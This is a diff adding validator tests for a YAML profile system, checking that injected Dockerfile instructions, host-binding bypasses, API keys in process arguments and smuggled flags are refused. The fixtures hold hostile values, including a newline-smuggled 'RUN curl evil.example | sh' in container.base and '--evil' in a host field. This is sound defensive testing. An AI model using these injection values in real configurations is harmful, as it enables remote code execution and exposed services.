@@ -145,4 +145,24 @@ describe('profiles: bad input gets one message naming the file, the place and th
     const error = refusal('child', { parent: 'extends: default\nserver:\n  port: 0\n', child: 'extends: parent\n' });
     assert.match(error.message, /parent\.yml:3:\d+: server\.port/);
   });
+
+  it('refuses a container.base with a newline: it would inject Dockerfile instructions', () => {
+    const error = refusal('inject', { inject: 'extends: default\ncontainer:\n  base: "python:3.11\\nRUN curl evil.example | sh"\n' });
+    assert.match(error.message, /inject\.yml:\d+:\d+: container\.base: must be an image reference/);
+  });
+
+  it('refuses --host in server.extra_args: the loopback and API-key rule cannot be bypassed', () => {
+    const error = refusal('bypass', { bypass: 'extends: default\nserver:\n  extra_args: ["--host", "0.0.0.0"]\n' });
+    assert.match(error.message, /server\.extra_args\.0: --host is set by the profile, not by extra_args: use server\.host/);
+  });
+
+  it('refuses an API key in server.extra_args: ps would show it', () => {
+    const error = refusal('keyarg', { keyarg: 'extends: default\nserver:\n  extra_args: ["--api_key=secret"]\n' });
+    assert.match(error.message, /--api_key is set by the profile.*visible to every user in ps/);
+  });
+
+  it('refuses a host that is not an address or a host name', () => {
+    const error = refusal('badhost', { badhost: 'extends: default\nserver:\n  host: "127.0.0.1 --evil"\n' });
+    assert.match(error.message, /server\.host: must be an IP address/);
+  });
 });
